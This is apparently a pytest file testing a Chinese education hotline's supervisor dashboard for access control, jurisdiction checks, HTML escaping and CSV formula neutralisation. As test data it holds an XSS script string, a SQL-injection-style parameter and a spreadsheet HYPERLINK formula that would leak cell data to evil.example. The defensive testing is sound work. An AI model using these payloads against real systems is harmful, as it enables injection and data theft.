"""The dashboard's pages: who may open them, jurisdiction in the URL, escaping, the CSV guard.

Tickets are filed through the real workflow a few days before the real
now (the pages count at the time of the request), in an app context that
is committed and closed before the requests.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from sqlalchemy import update

from hotline import db
from hotline.calendar import WorkCalendar
from hotline.console.dashboard_tables import TABLES
from hotline.tickets import workflow as wf
from hotline.tickets.workflow import Actor, NewTicket, create_ticket
from lookup.models import School, Unit
from tests.hotline.console.conftest import CITY, COUNTY, MINISTRY, OTHER_CITY_COUNTY, OTHER_PROVINCE, PROVINCE
from tests.hotline.tickets.conftest import SCHOOLS

SCRIPT = '<script>alert("x")</script>'
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+2", "-1+2", "@SUM(1+1)",
            "\t=1+2", " =1+2")


def file_and_answer(app, *, unit_name: str | None = None, agents=("张三",)) -> None:
    """A ticket answered at 长安区 by each of ``agents``, and one open, filed 3 days ago."""
    now = datetime.datetime.now(datetime.UTC)
    with app.app_context():
        session = db.session()
        for code, (name, division, authority) in SCHOOLS.items():
            session.add(School(code=code, name=name, division_code=division, authority_code=authority))
        if unit_name is not None:
            session.execute(update(Unit).where(Unit.code == COUNTY).values(name=unit_name))
        calendar = WorkCalendar.from_session(session)
        for agent in (*agents, None):
            new = NewTicket(channel="phone", category="lookup", subject="查询学籍号",
                            description="家长来电查询。", receiving_unit_code=COUNTY,
                            school_codes=("1301020001",), phone="13800138000",
                            received_at=now - datetime.timedelta(days=3))
            ticket = create_ticket(session, new, Actor("坐席", COUNTY), calendar=calendar)
            if agent is not None:
                wf.close_answered(session, ticket, Actor(agent, COUNTY), answer="已告知",
                                  at=now - datetime.timedelta(days=2))
        session.commit()


@pytest.mark.parametrize("path", ["/console/dashboard", "/console/dashboard/units.csv"])
def test_not_logged_in_goes_to_the_login_page(client, path):
    response = client.get(path)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/console/login")


@pytest.mark.parametrize("role", ["agent", "handler"])
def test_agents_and_handlers_are_refused(client, make_user, login, role):
    make_user("worker", COUNTY, role)
    login(client, "worker")
    assert client.get("/console/dashboard").status_code == 403
    assert client.get("/console/dashboard/steps.csv").status_code == 403


@pytest.mark.parametrize("role", ["supervisor", "admin"])
def test_supervisors_and_administrators_see_their_jurisdiction(client, make_user, login, role):
    make_user("boss", CITY, role)
    login(client, "boss")
    page = client.get("/console/dashboard").get_data(as_text=True)
    assert "督办看板：石家庄市教育局" in page
    assert "长安区教育局" in page and "唐山市教育局" not in page
    assert client.get(f"/console/dashboard?unit={COUNTY}").status_code == 200


@pytest.mark.parametrize("unit", [PROVINCE, "130200", OTHER_CITY_COUNTY, OTHER_PROVINCE, MINISTRY, "999999",
                                  "1" * 200, "130100' OR '1'='1"])
def test_a_unit_outside_the_jurisdiction_is_not_found(client, make_user, login, unit):
    make_user("boss", CITY, "supervisor")
    login(client, "boss")
    assert client.get("/console/dashboard", query_string={"unit": unit}).status_code == 404
    assert client.get("/console/dashboard/units.csv", query_string={"unit": unit}).status_code == 404


def test_the_ministry_sees_every_province(client, make_user, login):
    make_user("boss", MINISTRY, "supervisor")
    login(client, "boss")
    page = client.get("/console/dashboard").get_data(as_text=True)
    assert "河北省教育厅" in page and "北京市教育委员会" in page


@pytest.mark.parametrize("weeks", ["4", "52", "0", "-3", "abc", "9999999999999999999999"])
def test_an_odd_period_falls_back_to_twelve_weeks(client, make_user, login, weeks):
    make_user("boss", CITY, "supervisor")
    login(client, "boss")
    response = client.get("/console/dashboard", query_string={"weeks": weeks})
    assert response.status_code == 200
    shown = weeks if weeks in ("4", "52") else "12"
    assert f'<option value="{shown}" selected>' in response.get_data(as_text=True)


def test_an_unknown_table_is_not_found(client, make_user, login):
    make_user("boss", CITY, "supervisor")
    login(client, "boss")
    assert client.get("/console/dashboard/users.csv").status_code == 404


def test_names_are_escaped_in_the_page_and_in_the_charts(app, client, make_user, login):
    file_and_answer(app, unit_name=SCRIPT, agents=[SCRIPT])
    make_user("boss", COUNTY, "supervisor")
    login(client, "boss")
    page = client.get("/console/dashboard").get_data(as_text=True)
    assert "<script" not in page
    escaped = "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;"
    assert page.count(escaped) >= 4  # heading, both chart titles, the agents table
    svg = page[page.index("<svg"):page.rindex("</svg>")]
    assert escaped in svg and "<script" not in svg


def test_every_table_is_exported_as_csv_with_a_bom(app, client, make_user, login):
    file_and_answer(app)
    make_user("boss", CITY, "supervisor")
    login(client, "boss")
    for name in TABLES:
        response = client.get(f"/console/dashboard/{name}.csv?unit={COUNTY}&weeks=4")
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert f"dashboard-{name}-{COUNTY}-" in response.headers["Content-Disposition"]
        assert response.data.startswith(b"\xef\xbb\xbf")
    agents = list(csv.reader(io.StringIO(
        client.get(f"/console/dashboard/agents.csv?unit={COUNTY}").data.decode("utf-8-sig"))))
    assert agents[0][0] == "人员" and agents[1][:3] == ["张三", "1", "1"]
    assert agents[1][-1] == "样本不足"


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_names_are_neutralised_in_the_csv(app, client, make_user, login, formula):
    file_and_answer(app, unit_name=formula, agents=[formula])
    make_user("boss", CITY, "supervisor")
    login(client, "boss")
    units = client.get("/console/dashboard/units.csv").data.decode("utf-8-sig")
    [row] = [row for row in csv.reader(io.StringIO(units)) if formula in row[0]]
    assert row[0] == "'" + formula
    agents = client.get(f"/console/dashboard/agents.csv?unit={COUNTY}").data.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(agents)))[1][0] == "'" + formula
